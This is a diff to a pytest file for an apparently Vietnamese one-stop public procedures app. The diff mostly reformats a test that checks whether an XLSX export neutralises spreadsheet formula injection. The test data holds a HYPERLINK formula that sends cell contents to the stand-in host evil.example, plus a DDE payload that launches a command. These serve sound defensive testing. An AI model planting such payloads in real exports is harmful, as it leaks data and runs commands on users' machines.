@@ -18,6 +18,7 @@ from tinhso.onestop.tests.factories import DocumentRequirementFactory
 
 pytestmark = pytest.mark.django_db
 
+
 @pytest.fixture
 def demo(demo_agencies: dict[str, Any]) -> None:
     demo_load()
@@ -193,18 +194,31 @@ def test_export_writes_text_that_looks_like_a_formula_as_text(demo_agencies: dic
     label) is a text cell of the export, never a formula, and reads back exactly."""
     evil = ['=HYPERLINK("http://evil.example/?d="&A2,"Bấm")', "+84 912", "-1+2", "@SUM(1,2)", " =1+1"]
     procedure = Procedure.objects.create(
-        code="1.000001.000.00.00.H31", name=evil[0], field=evil[1], authority_level="province",
-        online_level="partial", not_full_reason=evil[2], processing_days=Decimal(5), fee_vnd=0,
-        fee_note=evil[3], result_type=evil[4], legal_basis="=cmd|' /C calc'!A0",
-        form_fields=[{"name": "ly_do", "label": "=1+1", "type": "select", "options": ["=2+2", "-3"],
-                      "required": True}],
+        code="1.000001.000.00.00.H31",
+        name=evil[0],
+        field=evil[1],
+        authority_level="province",
+        online_level="partial",
+        not_full_reason=evil[2],
+        processing_days=Decimal(5),
+        fee_vnd=0,
+        fee_note=evil[3],
+        result_type=evil[4],
+        legal_basis="=cmd|' /C calc'!A0",
+        form_fields=[{"name": "ly_do", "label": "=1+1", "type": "select", "options": ["=2+2", "-3"], "required": True}],
     )
     DocumentRequirementFactory(procedure=procedure, name="=Tờ khai", order=1)
-    WorkflowStep.objects.create(procedure=procedure, order=1, action="receive", name="@Tiếp nhận", role="receiver",
-                                days=Decimal(1))
+    WorkflowStep.objects.create(
+        procedure=procedure, order=1, action="receive", name="@Tiếp nhận", role="receiver", days=Decimal(1)
+    )
     book = _book(procedures_export_xlsx(Procedure.objects.filter(pk=procedure.pk)))
-    formulas = [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows()
-                for cell in row if cell.data_type == "f"]
+    formulas = [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
     assert formulas == []
     main = [cell.value for cell in book.worksheets[0][2]]
     assert main[:3] == [procedure.code, evil[0], evil[1]]
